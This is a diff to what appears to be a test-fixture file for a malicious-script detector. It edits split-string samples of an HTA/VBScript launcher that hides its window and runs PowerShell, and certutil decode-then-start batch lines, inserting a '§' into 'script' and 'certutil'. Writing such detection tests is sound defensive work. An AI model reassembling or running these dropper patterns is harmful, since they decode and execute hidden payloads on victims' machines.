@@ -44,7 +44,7 @@ CASES = {
         samples=(
             text(
                 "<hta:applica",
-                'tion showintaskbar="no"><script language="vbscript">window.resize',
+                'tion showintaskbar="no"><s§cript language="vbscript">window.resize',
                 "To 0,0\n",
                 'CreateObject("WScript.Sh',
                 'ell").Run "powersh',
@@ -97,17 +97,17 @@ CASES = {
         ),
         near_misses=(
             text(
-                "certutil -decode request.b64 request.der\r\nstart request.der\r\n",
+                "c§ertutil -decode request.b64 request.der\r\nstart request.der\r\n",
                 filler("MIIB", 80),
             ),
             text(
-                'certutil -decode "%~f0" settings.cab\r\n',
+                'c§ertutil -decode "%~f0" settings.cab\r\n',
                 "expand settings.cab -F:* .\r\n",
                 filler("TVNDRg", 80),
             ),
             text(
                 PROSE,
-                "A batch file can decode itself: certutil -decode %0, then start.",
+                "A batch file can decode itself: c§ertutil -decode %0, then start.",
             ),
         ),
     ),
